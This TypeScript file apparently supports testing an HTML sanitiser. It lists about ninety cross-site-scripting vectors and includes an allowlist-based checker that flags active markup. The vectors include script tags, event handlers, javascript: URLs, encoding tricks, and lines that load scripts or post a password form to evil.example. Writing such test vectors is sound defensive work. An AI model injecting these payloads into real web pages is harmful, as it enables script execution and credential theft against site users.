/**
 * Markup that runs, loads or submits something in one browser or another, now or once. `marker` is called where it
 * runs.
 */
export const vectors = (marker = 'alert(1)'): readonly string[] => [
  `<script>${marker}</script>`,
  `<ScRiPt>${marker}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script/x>${marker}</script>`,
  `<scr<script>ipt>${marker}</scr</script>ipt>`,
  `<<script>${marker}//<</script>`,
  `<script>${marker}`,
  `"><script>${marker}</script>`,
  `<img src=x onerror=${marker}>`,
  `<img src=x onerror="${marker}">`,
  `<IMG """><SCRIPT>${marker}</SCRIPT>">`,
  `<img src="x" OnErRoR="${marker}">`,
  `<img src=x:x onerror=${marker}//`,
  `<img/src=x/onerror=${marker}>`,
  `<img src="javascript:${marker}">`,
  `<img src=\`x\` onerror=${marker}>`,
  `<img srcset="x" onerror=${marker}>`,
  `<img src="data:image/svg+xml,<svg onload=${marker}>">`,
  `<image src=x onerror=${marker}>`,
  `<svg onload=${marker}>`,
  `<svg><script>${marker}</script></svg>`,
  `<svg><animate onbegin=${marker} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${marker}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${marker}</script>">`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${marker}'/>#x">`,
  `<svg><style><img src=x onerror=${marker}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${marker}>`,
  `<math href="javascript:${marker}">x</math>`,
  `<a href="javascript:${marker}">x</a>`,
  `<a href="JaVaScRiPt:${marker}">x</a>`,
  `<a href="java\tscript:${marker}">x</a>`,
  `<a href="java\nscript:${marker}">x</a>`,
  `<a href=" javascript:${marker}">x</a>`,
  `<a href="&#106;avascript:${marker}">x</a>`,
  `<a href="&#x6A;avascript&colon;${marker}">x</a>`,
  `<a href="\u0001javascript:${marker}">x</a>`,
  `<a href="javascript&Tab;:${marker}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${marker}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="https://x.example" onclick="${marker}" onmouseover="${marker}" onfocus="${marker}" autofocus tabindex=1>x</a>`,
  `<a href="https://x.example/&quot;onmouseover=&quot;${marker}">x</a>`,
  `<a target="_blank" href="https://x.example">x</a>`,
  `<iframe src="javascript:${marker}"></iframe>`,
  `<iframe srcdoc="<script>parent.${marker}</script>"></iframe>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="javascript:${marker}"></object>`,
  `<embed src="javascript:${marker}">`,
  `<applet code=x></applet>`,
  `<frameset onload=${marker}>`,
  `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
  `<form><button formaction="javascript:${marker}">x</button></form>`,
  `<isindex action=javascript:${marker} type=image>`,
  `<input autofocus onfocus=${marker}>`,
  `<select autofocus onfocus=${marker}>`,
  `<textarea autofocus onfocus=${marker}></textarea>`,
  `<keygen autofocus onfocus=${marker}>`,
  `<details open ontoggle=${marker}>`,
  `<video><source onerror=${marker}></video>`,
  `<video src=x onerror=${marker}></video>`,
  `<audio src=x onerror=${marker}></audio>`,
  `<body onload=${marker}>`,
  `<marquee onstart=${marker}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${marker}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<div style="background:url(javascript:${marker})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">over all</div>`,
  `<p class="x" id="getElementById">x</p>`,
  `<table background="javascript:${marker}"><tr><td>x</table>`,
  `<template><script>${marker}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${marker}>"></noscript>`,
  `<title><img src=x onerror=${marker}></title>`,
  `<!--><img src=x onerror=${marker}>-->`,
  `<!--[if gte IE 4]><script>${marker}</script><![endif]-->`,
  `<![CDATA[<script>${marker}</script>]]>`,
  `<?xml-stylesheet href="javascript:${marker}"?><p>x</p>`,
  `&lt;script&gt;${marker}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${marker}&amp;gt;`,
  `+ADw-script+AD4-${marker}+ADw-/script+AD4-`,
  `\u0000<script>${marker}</script>`,
  `<\u0000script>${marker}</script>`,
  `＜script＞${marker}＜/script＞`,
  `<xss onpointerenter=${marker} style=display:block>x</xss>`,
  `<dialog open onclose=${marker}>x</dialog>`,
  `{{constructor.constructor('${marker}')()}}`,
  `<plaintext><script>${marker}</script>`,
  `<xmp><img src=x onerror=${marker}></xmp>`,
  `<portal src="https://evil.example">`,
  `<slot onslotchange=${marker}>`,
]

/** Lists what in this markup would act, load or hide in a browser; empty = nothing. */
export function activeParts(html: string): string[] {
  const found: string[] = []
  const tags = new Set(
    'p br a ul ol li dl dt dd strong b em i u s small sub sup code pre blockquote h3 h4 h5 h6 hr img figure figcaption table thead tbody tr th td div mark'.split(
      ' ',
    ),
  )
  const attributes = new Set('href title rel target src alt width height loading referrerpolicy'.split(' '))
  new HTMLRewriter()
    .on('*', {
      element(element) {
        if (!tags.has(element.tagName)) found.push(`<${element.tagName}>`)
        for (const [name, value] of element.attributes) {
          if (!attributes.has(name)) found.push(`${element.tagName} ${name}`)
          if (
            (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) ||
            (name === 'src' && !/^https?:\/\//.test(value))
          )
            found.push(`${name}=${value}`)
          if (name === 'target' && element.getAttribute('rel') !== 'noopener noreferrer')
            found.push('a link with an opener')
        }
      },
      comments: () => void found.push('a comment'),
    })
    .transform(html)
  return found
}
